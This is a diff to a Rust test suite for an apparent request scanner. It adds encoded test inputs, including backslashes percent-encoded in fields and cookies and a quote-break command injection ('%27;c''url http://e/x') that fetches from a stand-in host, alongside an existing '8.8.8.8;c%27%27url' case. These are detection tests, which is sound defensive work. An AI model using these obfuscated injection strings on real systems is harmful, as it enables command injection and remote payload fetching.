@@ -278,6 +278,12 @@ fn json_is_found_wherever_it_stands() {
             ("field, encoded once more", field(&encoded)),
             ("field, encoded twice more", field(&twice)),
             ("query, encoded once more", value(&encoded)),
+            ("backslashes, encoded once more", field(&object.replace('\\', "%5C"))),
+            (
+                "backslashes in a cookie",
+                header("Cookie", &format!("a={}", object.replace('\\', "%5c"))),
+            ),
+            ("quote before a command", field("%27;c''url http://e/x")),
             ("string, encoded", json(&format!("{{\"a\":\"{encoded}\"}}"))),
             ("command, encoded once more", field("8.8.8.8;c%27%27url%20http://e/x")),
             ("references, encoded once more", field(&references.replace('#', "%23"))),
